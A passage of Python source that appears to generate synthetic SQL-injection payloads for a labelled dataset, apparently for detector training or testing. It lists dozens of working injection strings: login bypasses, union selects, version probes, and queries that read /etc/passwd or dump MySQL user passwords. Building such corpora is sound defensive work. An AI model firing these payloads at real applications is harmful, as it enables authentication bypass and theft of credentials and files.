    "{n} and {charfn}={charfn}", "-{n} union select {hexs}", "{n}' and {col}={hexs}--",
    "{n}' and {col}=char(97)+char(100)+char(109)+char(105)+char(110)--", "1' and user like {chrcat}||'%'--",
    "{n}' and 1=(select 1 from dual where 1={n})--", "x' and 0x61646d696e like {col}--",
    "1' and substring(@@version,1,1)=5--", "1 and (select substring(@@version,1,1))='5'",
    "'||(select {leak})||'", "'||(select user from dual)||'", "' + (select @@version) + '",
    "select current_setting('data_directory');", "select pg_read_file('/etc/passwd',0,200);", "select * from syscat.dbauth",
    "select name from master..sysdatabases", "select load_file('/etc/passwd')", "select @@version", "select user,password from mysql.user",
    "select table_name from information_schema.tables", "select banner from v$version", "select sqlite_version()",
    "{n} and ({n}={n2})*{n2}", "-{n}' or ({n}={n2})*{n2} and '{w}'='{w}", "' union all select 'inj'||'ect'||'xxx',2,3,4,5--",
    "1';exec('sel'+'ect * fr'+'om {tbl}')--", "'; select * from {tbl} where 'a'='a",
    "%' and 1=0 union select {leak},null-- ", "%' or 1=1 and '%'='", "a%' and 1=1 and '%'='",
    # auth-bypass classics
    "admin'--", "admin' --", "admin' #", "admin'/*", "admin' or '1'='1", "admin' or 1=1--", "admin')--",
    "' or ''='", "\" or \"\"=\"", "') or ('x')=('x", "' or 1=1 limit 1--", "') or '1'='1'--",
    "' or 1=1 or ''='", "'=' 'or'", "' or 'x'='x", "\") or (\"a\"=\"a", "1' or '1'='1'--", "'or 1#",
    "{w}' or 1=1#", "' or username like '%", "' or uid like '%", "admin' and 1=1--", "' or true--",
    "') or true--", "\" or true--", "' or 1 --", "'or'1", "'||'1'='1",
    "1' or 1 = 1 -- -", "' or 0=0 --", "\" or 0=0 --", "or 0=0 #", "' or 'one'='one", "' or a=a--",
    "1 or 1=1", "1) or (1=1", "1)) or ((1=1", "-1 or 1=1", "1' or true#", "admin\" or \"1\"=\"1",
    "') or ('a'='a' and hi\") or (\"a\"=\"a", "1 or 1=1 -- ", "x' or 1=1 or 'x'='y",
    # full statements as carried in parameters
    "select * from {tbl} where {col}='' or '1'='1'", "1; select * from {tbl}",
    "select {leak} from {tbl} where 1=1 or 1=1", "' union select {col},{col2} from {tbl}--",
)  # fmt: skip


def _special(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    idx = rng.randrange(len(_SPECIAL))
    return fill(_SPECIAL[idx], rng, fl, {"leak": fl["mleak"](rng)}), f"special:{idx}"


_Builder = Callable[[random.Random, _Ctx, dict[str, Filler]], tuple[str, str]]
_TECHNIQUES: tuple[tuple[_Builder, float], ...] = (
    (_tautology, 0.17),
    (_union, 0.19),
    (_error, 0.11),
    (_blind, 0.12),
    (_time, 0.14),
    (_stacked, 0.08),
    (_order, 0.04),
    (_oob, 0.03),
    (_special, 0.12),
)


def sqli_payload(rng: random.Random) -> tuple[str, str]:
    """One grammar SQLi payload and its template group key."""
    dbms = weighted(rng, _DBMS_WEIGHTS)
    builder = weighted(rng, _TECHNIQUES)
    ctx = _Ctx(rng, dbms, numeric_bias=0.45 if builder in (_union, _time) else 0.3)
    payload, key = builder(rng, ctx, _FILLERS[dbms])
    payload = _case(rng, payload)
    if rng.random() < 0.04:  # tokenised spacing, as in some public SQLi corpora: "sleep ( 5 )"
        payload = re.sub(r"\s*(<>|!=|>=|<=|[(),=<>])\s*", r" \1 ", payload).strip()
    return payload, key


def generate_sqli(rng: random.Random, n: int) -> list[Sample]:
    """``n`` distinct grammar-generated SQL-injection payloads (kind "value")."""

    def make() -> Sample:
        payload, key = sqli_payload(rng)
        return Sample(payload, "value", "sqli", "gen:sqli:grammar", f"gen:sqli:{key}")

    return unique_samples(make, n)
